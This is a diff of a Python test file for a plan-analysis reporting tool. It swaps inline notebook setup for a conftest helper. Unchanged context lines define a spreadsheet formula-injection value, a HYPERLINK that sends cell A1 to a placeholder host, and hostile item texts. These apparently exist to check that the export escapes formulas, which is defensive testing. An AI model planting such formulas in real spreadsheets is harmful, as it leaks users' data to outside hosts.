@@ -28,6 +28,8 @@ from plan_analysis.report.notebooks import DISPLAY_OPTIONS, execute_notebook, ex
 from plan_analysis.report.summary import summary_sheets, xlsx_bytes
 from plan_analysis.years.diffs import html_diff
 
+from .conftest import code_notebook
+
 HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"a")'
 #: Item 2021-001's name and texts, each starting with a character that makes a formula.
 HOSTILE_ITEM = {
@@ -305,22 +307,12 @@ def test_html_diff_escapes_both_texts() -> None:
 
 
 def test_a_notebook_run_twice_over_ipc_exports_identical_html(tmp_path, capfd) -> None:
-    nb = nbformat.v4.new_notebook()
-    nb.metadata["kernelspec"] = {
-        "name": "python3",
-        "display_name": "Python 3",
-        "language": "python",
-    }
-    parameters = nbformat.v4.new_code_cell("name = ''")
-    parameters.metadata["tags"] = ["parameters"]
-    nb.cells = [
-        parameters,
-        nbformat.v4.new_code_cell(
-            "import json\nfrom ipykernel.connect import get_connection_info\n"
-            "print(json.loads(get_connection_info())['transport'], name)"
-        ),
-    ]
-    nbformat.write(nb, tmp_path / "01_t.ipynb")
+    code_notebook(
+        tmp_path / "01_t.ipynb",
+        "name = ''",
+        "import json\nfrom ipykernel.connect import get_connection_info\n"
+        "print(json.loads(get_connection_info())['transport'], name)",
+    )
     html = []
     for run in ("first", "second"):
         executed = execute_notebook(
